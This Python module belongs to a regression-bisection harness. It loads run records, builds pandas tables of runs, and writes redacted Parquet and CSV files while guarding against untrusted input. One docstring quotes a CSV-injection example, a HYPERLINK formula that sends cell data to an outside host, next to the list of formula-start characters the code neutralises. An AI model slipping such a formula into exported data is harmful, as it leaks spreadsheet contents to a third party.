"""Tables and Markdown from records; report modules are the only ones that import pandas.

``runs_frame``/``runs_table`` (and ``report.summary``) serve one repro session. ``load_records`` and
``records_frame`` serve the report: every record file under one or more output folders, one row per run.
"""

from __future__ import annotations

import dataclasses
import datetime
import math
import statistics
import warnings
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path, PurePosixPath
from typing import Any

import pandas as pd

from reprobisect.errors import ConfigError, RecordError
from reprobisect.model.bisect_report import BisectReport
from reprobisect.model.classify import find_known
from reprobisect.model.outcome import Outcome
from reprobisect.model.record import MAX_RECORD_BYTES, Record, warm_up_steps
from reprobisect.model.signature import Signature
from reprobisect.model.verdict import fold_repeats
from reprobisect.report import archive
from reprobisect.report.spread import quantile
from reprobisect.util.files import atomic_path, inside
from reprobisect.util.neutral import command_line, printable
from reprobisect.util.redact import redact
from reprobisect.util.safe_read import UnsafeFileError, load_json_file

__all__ = [
    "AXES",
    "Bisect",
    "Loaded",
    "SkippedFileWarning",
    "claimed_text",
    "csv_cell",
    "latest_runs",
    "load_bisects",
    "load_records",
    "records_frame",
    "runs_frame",
    "step_times_ms",
    "write_csv",
    "write_frame",
]

AXES = ("torch", "deepspeed", "lightning")
_MIB = 1024 * 1024


def _version(record: Record, name: str) -> str:
    """The version the run imported; the cell's pin in parentheses when the run never imported it."""
    if name in record.versions:
        return record.versions[name]
    pinned = record.cell.get("packages", {}).get(name)
    return f"({pinned})" if pinned else ""


def runs_frame(records: Sequence[Record]) -> pd.DataFrame:
    """One row per run with the columns a maintainer reads first."""
    rows = []
    for r in records:
        sig = r.signature
        gpu_peak = r.peak_gpu_memory_bytes
        rows.append(
            {
                "cell": r.cell.get("id"),
                "form": r.form,
                "fix": r.fix,
                "precision": r.precision,
                "outcome": r.outcome,
                "signature_id": sig.id if sig else "",
                "signature": sig.text if sig else "",
                "failing_step": "" if r.failing_step is None else str(r.failing_step),
                **_training(r.training),
                "median_step_ms": None if r.step_median_seconds is None else round(r.step_median_seconds * 1000, 1),
                "peak_mem_mib": round((gpu_peak if gpu_peak else (r.peak_rss_bytes or 0)) / _MIB) or None,
                "peak_mem_kind": "gpu" if gpu_peak else "rss",
                "wall_s": round(r.wall_seconds, 1),
                "torch": _version(r, "torch"),
                "deepspeed": _version(r, "deepspeed"),
                "lightning": _version(r, "lightning"),
                "versions_source": r.versions_source,
                "repeat": r.repeat,
                "log": r.log_path,
            }
        )
    return pd.DataFrame(rows)


def flaky_runs(records: Sequence[Record]) -> list[str]:
    """Lines naming each cell × form × fix whose repeats disagree (outcome or signature): not to be trusted."""
    groups: dict[tuple[str, str, str, str], list[Record]] = {}
    for r in records:
        groups.setdefault((str(r.cell.get("id")), r.repro, r.form, r.fix), []).append(r)
    lines = []
    for (cell, repro, form, fix), runs in groups.items():
        verdict = fold_repeats((r.outcome, r.signature.id if r.signature else "") for r in runs)
        if len(verdict.states) > 1:
            states = " | ".join(verdict.states)
            lines.append(f"FLAKY {cell} {repro} {form} {fix}: {len(runs)} runs disagree: {states}")
    return lines


class SkippedFileWarning(UserWarning):
    """A record (or bisect) file could not be read and was left out of the report; the message names it."""


@dataclasses.dataclass(frozen=True, kw_only=True)
class Loaded:
    """A record and where it came from: logs are relative to ``root``, which differs per merged machine."""

    record: Record
    root: Path
    path: Path


def _check(record: Record, path: Path) -> None:
    """Reject records that parse but that no view could use, so one odd file cannot crash the report."""
    cell: object = record.cell  # JSON may hold anything whatever the annotations say
    signature: object = record.signature
    if record.outcome not in Outcome.__members__:
        msg = f"{path}: outcome {record.outcome!r} is not one of {', '.join(Outcome.__members__)}"
        raise RecordError(msg)
    if not isinstance(cell, dict) or not isinstance(cell.get("id"), str):
        msg = f"{path}: key 'cell' must be an object with an 'id', got {cell!r:.80}"
        raise RecordError(msg)
    if not isinstance(cell.get("packages", {}), dict) or not isinstance(record.log_path, str):
        msg = f"{path}: key 'cell.packages' must be an object and 'log_path' a string"
        raise RecordError(msg)
    if signature is not None and not isinstance(signature, Signature):
        msg = f"{path}: key 'signature' must be an object or null, got {signature!r:.80}"
        raise RecordError(msg)


def _load_one(path: Path, root: Path, raw: bytes | None = None) -> Record | None:
    """The record at ``path`` under the records root ``root`` (or parsed from ``raw``, an archive's member whose place
    ``path`` names), checked."""
    try:
        record = Record.load(path, root=root) if raw is None else Record.parse(raw, source=path)
        _check(record, path)
    except RecordError as exc:
        warnings.warn(f"skipping {exc}", SkippedFileWarning, stacklevel=3)
        return None
    except (TypeError, ValueError, AttributeError) as exc:  # a record that parses into nonsense
        warnings.warn(f"skipping {path}: malformed record ({exc})", SkippedFileWarning, stacklevel=3)
        return None
    return record


def _root_records(base: Path) -> Iterator[tuple[Path, bytes | None]]:
    """Each record file of one root (its bytes None: read from disk), then each record of its archive
    (``report.archive``: ``<root>/records.tar.xz``, named ``<root>/records.tar.xz/records/…``); what the archive
    left out is warned about here, once per load."""
    for path in sorted((base / "records").rglob("*.json")):
        if not path.name.startswith("."):  # an atomic write's temporary file
            yield path, None
    packed = archive.contents(base)
    if packed is None:
        return
    for problem in packed.problems:
        warnings.warn(f"skipping {problem}", SkippedFileWarning, stacklevel=3)
    for name, raw in packed.records:
        if not PurePosixPath(name).name.startswith("."):
            yield packed.path / name, raw


def load_records(roots: Sequence[Path]) -> list[Loaded]:
    """Every readable record under ``<root>/records/`` of each root, and in ``<root>/records.tar.xz``; a run seen
    twice (same run_id) once.

    Malformed, truncated and other-schema files (or members) are skipped with a SkippedFileWarning naming the file:
    a report of the runs that did finish beats no report.
    """
    loaded: list[Loaded] = []
    seen: set[str] = set()
    for root in roots:
        base = root.resolve()
        for path, raw in _root_records(base):
            record = _load_one(path, base, raw)
            if record is None or record.run_id in seen:
                continue
            if not inside(base, record.log_path):
                msg = f"skipping {path}: its log_path {record.log_path!r:.120} is outside {base}; left out"
                warnings.warn(msg, SkippedFileWarning, stacklevel=2)
                continue
            seen.add(record.run_id)
            loaded.append(Loaded(record=record, root=base, path=path))
    return loaded


def latest_runs(loaded: Sequence[Loaded]) -> tuple[list[Loaded], int]:
    """One record per run — repro, cell (ranks included), form, fix, repeat — the one that finished last, and how many
    older ones were left out. Why: records gathered over several sessions (a GPU map built call by call, a fix whose
    arguments changed and was run again) hold superseded runs that would otherwise stand beside their re-runs as
    repeats. A record without a readable finish time counts as the oldest."""
    newest: dict[tuple[str, ...], Loaded] = {}
    for item in loaded:
        r = item.record
        key = (r.repro, str(r.cell.get("id")), r.form, r.fix, str(r.repeat))
        kept = newest.get(key)
        if kept is None or _finished(item) >= _finished(kept):
            newest[key] = item
    chosen = {id(item) for item in newest.values()}
    return [item for item in loaded if id(item) in chosen], len(loaded) - len(newest)


def _finished(item: Loaded) -> float:
    """The record's finish time as a POSIX timestamp; -inf where it is missing or not an ISO 8601 time (records are
    untrusted input: "garbage" must not outrank a real time)."""
    value = item.record.finished_at
    try:
        moment = datetime.datetime.fromisoformat(value) if isinstance(value, str) else None
    except ValueError:
        moment = None
    if moment is None:
        return -math.inf
    return (moment if moment.tzinfo else moment.replace(tzinfo=datetime.UTC)).timestamp()


def step_times_ms(record: Record) -> list[float]:
    """Completed steps in ms, the warm-up steps always left out (``warm_up_steps``): a one-step run has none.

    (The record's ``step_median_seconds`` keeps the warm-up step of a one-step run; a report comparing
    releases must not set one cold step against others' warm ones.)
    """
    return [s.seconds * 1000 for s in record.steps[warm_up_steps(len(record.steps)) :] if s.ok]


def _pin(record: Record, axis: str) -> str:
    """The cell's pin on one axis: what a bisect or the matrix varied, whatever the run imported."""
    if axis == "torch":
        return str(record.cell.get("torch", ""))
    return str(record.cell.get("packages", {}).get(axis, ""))


def _rerun_text(words: Sequence[str]) -> str:
    """The record's command that re-runs it, on one line (``util.neutral.command_line``): quoted for a shell, or a
    comment saying why it cannot be given (a newline or an escape sequence in an argument, an unreasonable length):
    records are untrusted, and a neutralised command would re-run something else. "" where the record keeps none."""
    return command_line(words) if words else ""


def _known_now(record: Record) -> tuple[str, str]:
    """The known name and upstream reports of a record's failure: the record's own, or, for a record made before the
    catalogue knew that failure (the GPU map mixes sessions), the bug the catalogue names it today. Only a "bug":
    an "env" match would say ENV_ERROR of a run whose outcome was judged otherwise; outcomes are never re-judged."""
    if record.known_signature or record.signature is None or record.outcome == Outcome.PASS:
        return record.known_signature or "", ", ".join(record.upstream)
    known = find_known(record.signature)
    if known is None or known.kind != "bug":
        return "", ", ".join(record.upstream)
    return known.name, ", ".join(known.upstream)


_CLAIMS = {"python": "python {}", "platform": "{}", "gpu": "GPU {}", "memory": "{}", "steps": "refused: {}"}


def claimed_text(claimed: object) -> str:
    """A run's differing word on where it ran (``config.claimed``, ``run.measured``) as the report labels it:
    ``python 3.99 · FAKE-OS · GPU FAKE H100``; "" for none, or for a value of the wrong shape (records are
    untrusted)."""
    if not isinstance(claimed, dict):
        return ""
    return " · ".join(form.format(claimed[key]) for key, form in _CLAIMS.items() if isinstance(claimed.get(key), str))


def _row(item: Loaded) -> dict[str, Any]:
    r = item.record
    sig = r.signature
    known, upstream = _known_now(r)
    steps = step_times_ms(r)
    first = r.first_step_seconds
    memory = r.peak_gpu_memory_bytes or r.peak_rss_bytes
    return {
        "run_id": r.run_id,
        "repro": r.repro,
        "cell": r.cell["id"],
        "form": r.form,
        "fix": r.fix,
        "precision": r.precision,
        "repeat": r.repeat,
        **{axis: _pin(r, axis) for axis in AXES},
        "torch_source": str(r.cell.get("torch_source", "")),
        "nproc": r.nproc,
        "torchvision": r.versions.get("torchvision", ""),
        "rerun": _rerun_text(r.rerun),
        "outcome": r.outcome,
        "glyph": Outcome(r.outcome).glyph,
        "signature_id": sig.id if sig else "",
        "signature": sig.text if sig else "",
        "known_signature": known,
        "upstream": upstream,
        "failing_step": "" if r.failing_step is None else str(r.failing_step),
        **_training(r.training),
        "exit_code": r.exit_code,
        "timed_out": r.timed_out,
        "n_steps": len(r.steps),
        "step_ms": steps,
        "median_step_ms": statistics.median(steps) if steps else None,
        "p10_step_ms": quantile(steps, 10, 100),
        "p90_step_ms": quantile(steps, 90, 100),
        "first_step_ms": None if first is None else first * 1000,
        "setup_s": r.setup_seconds,
        "wall_s": r.wall_seconds,
        "peak_mem_mib": None if not memory else memory / _MIB,
        "peak_mem_kind": "gpu" if r.peak_gpu_memory_bytes else "rss",
        "python": r.python or "",
        "platform": r.platform or "",
        "gpu": str((r.gpu or {}).get("name", "")),
        "claimed": claimed_text(r.config.get("claimed")),
        "harness_version": r.harness_version,
        "started_at": r.started_at,
        "log": r.log_path,
        "log_file": str(item.root / r.log_path),
        "source": str(item.root),
        "record_file": str(item.path),
    }


def _training(verdict: Mapping[str, Any]) -> dict[str, Any]:
    """The repro's own training verdict (``--check-training``) as columns: ``trains`` yes/no ('' without one) and
    the deviations from the ddp reference; anything not of its type (a record is untrusted input) is left blank."""

    def number(value: object) -> float | None:
        ok = isinstance(value, (int, float)) and not isinstance(value, bool) and math.isfinite(value)
        return float(value) if ok else None  # type: ignore[arg-type]

    trains = verdict.get("trains")
    return {
        "trains": {True: "yes", False: "no"}.get(trains, "") if isinstance(trains, bool) else "",
        "deviation_D": number(verdict.get("deviation_D")),
        "deviation_G": number(verdict.get("deviation_G")),
    }


_FLOATS = (
    "median_step_ms",
    "p10_step_ms",
    "p90_step_ms",
    "first_step_ms",
    "setup_s",
    "wall_s",
    "peak_mem_mib",
    "deviation_D",
    "deviation_G",
)


def records_frame(loaded: Sequence[Loaded]) -> pd.DataFrame:
    """The long frame: one row per run, axis columns from the cell's pins, per-step times as a list."""
    frame = pd.DataFrame([_row(item) for item in loaded], columns=list(_row_columns()))
    for column in _FLOATS:
        frame[column] = frame[column].astype("float64")
    frame["exit_code"] = frame["exit_code"].astype("Int64")
    frame["repeat"] = frame["repeat"].astype("int64")
    frame["n_steps"] = frame["n_steps"].astype("int64")
    return frame


def _row_columns() -> tuple[str, ...]:
    """Column order of the long frame, also for an empty one (so views and files keep their shape)."""
    return (
        "run_id",
        "repro",
        "cell",
        "form",
        "fix",
        "precision",
        "repeat",
        *AXES,
        "torch_source",
        "nproc",
        "torchvision",
        "rerun",
        "outcome",
        "glyph",
        "signature_id",
        "signature",
        "known_signature",
        "upstream",
        "failing_step",
        "trains",
        "deviation_D",
        "deviation_G",
        "exit_code",
        "timed_out",
        "n_steps",
        "step_ms",
        "median_step_ms",
        "p10_step_ms",
        "p90_step_ms",
        "first_step_ms",
        "setup_s",
        "wall_s",
        "peak_mem_mib",
        "peak_mem_kind",
        "python",
        "platform",
        "gpu",
        "claimed",
        "harness_version",
        "started_at",
        "log",
        "log_file",
        "source",
        "record_file",
    )


def write_frame(frame: pd.DataFrame, dest: Path) -> list[Path]:
    """runs.parquet (step times as a list column) and runs.csv (step times space-separated)."""
    dest.mkdir(parents=True, exist_ok=True)
    parquet, csv = dest / "runs.parquet", dest / "runs.csv"
    frame = _redacted(frame)  # pandas writes its own bytes: write_atomic's redaction never sees them
    with atomic_path(parquet, what="the runs table") as tmp:
        frame.to_parquet(tmp, index=False)
    flat = frame.assign(step_ms=[" ".join(f"{t:.3f}" for t in steps) for steps in frame["step_ms"]])
    return [parquet, write_csv(flat, csv, what="the runs table")]


def _redacted(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text is redacted of the user's secrets (``util.redact``), for a writer that does
    not go through ``write_atomic``'s text (pandas' parquet and CSV)."""
    shown = frame.copy()
    for column in shown.columns:
        if pd.api.types.is_object_dtype(shown[column]) or pd.api.types.is_string_dtype(shown[column]):
            shown[column] = [redact(v) if isinstance(v, str) else v for v in shown[column]]
    return shown


_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(text: str) -> str:
    """A text cell as a CSV shows it: as a terminal may (``util.neutral.printable``), and, where it starts with what a
    spreadsheet reads as a formula (``=``, ``+``, ``-``, ``@``, TAB or CR), behind a single quote (OWASP's CSV
    injection rule): a run's message ``=HYPERLINK("http://x/?"&A1)`` must stay text."""
    shown = printable(text)
    return "'" + shown if text.startswith(_FORMULA_STARTS) or shown.startswith(_FORMULA_STARTS) else shown


def write_csv(frame: pd.DataFrame, path: Path, *, what: str) -> Path:
    """``frame`` as CSV, each text cell through :func:`csv_cell`: a CSV is opened in a spreadsheet or printed with
    ``cat``, and a run's escape sequences or formulas must not act there (parquet keeps them). Only text cells: a
    number column stays numeric (-3 is a number, not a formula), and a number is no text a run chose."""
    shown = _redacted(frame)
    for column in shown.columns:
        if pd.api.types.is_object_dtype(shown[column]) or pd.api.types.is_string_dtype(shown[column]):
            shown[column] = [csv_cell(v) if isinstance(v, str) else v for v in shown[column]]
    shown.columns = [csv_cell(str(name)) for name in shown.columns]
    with atomic_path(path, what=what) as tmp:
        shown.to_csv(tmp, index=False)
    return path


@dataclasses.dataclass(frozen=True, kw_only=True)
class Bisect:
    """One bisection's result file (``<out>/bisect-*.json``), read back as its report."""

    path: Path
    report: BisectReport


def _read_bisect(path: Path, root: Path) -> Bisect | None:
    try:
        data = load_json_file(path, root=root, max_bytes=MAX_RECORD_BYTES)
    except UnsafeFileError as exc:
        warnings.warn(f"skipping {path}: not read as a bisect result ({exc.why})", SkippedFileWarning, stacklevel=3)
        return None
    try:
        report = BisectReport.from_json(data, where=str(path))
    except ConfigError as exc:
        warnings.warn(f"skipping {path}: not a bisect result ({exc})", SkippedFileWarning, stacklevel=3)
        return None
    return Bisect(path=path, report=report)


def load_bisects(roots: Sequence[Path]) -> list[Bisect]:
    """Every ``bisect-*.json`` directly under each root; unreadable ones are skipped with a warning."""
    found = (_read_bisect(path, root) for root in roots for path in sorted(root.glob("bisect-*.json")))
    return [b for b in found if b is not None]
